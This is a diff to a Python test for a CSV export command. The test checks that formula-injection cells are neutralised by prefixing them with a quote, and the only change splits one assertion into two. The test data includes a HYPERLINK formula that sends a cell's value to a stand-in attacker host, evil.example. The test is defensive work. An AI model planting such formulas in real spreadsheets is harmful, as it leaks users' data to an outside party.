@@ -198,7 +198,8 @@ def test_export_csv_neutralises_spreadsheet_formulas(site, tmp_path):
     assert main(["export", "itas", str(site.root), "-o", str(out)]) == 0
     rows = {r[0]: r for r in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
     assert rows["O2"][1] == "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"คลิก\")"
-    assert rows["O3"][1].startswith("'@SUM") and rows["O4"][1] == "'+1+1" and rows["O5"][1] == "'-2+3"
+    assert rows["O3"][1].startswith("'@SUM")
+    assert rows["O4"][1] == "'+1+1" and rows["O5"][1] == "'-2+3"
     for row in rows.values():
         assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
     from itagen.commands.export import cell
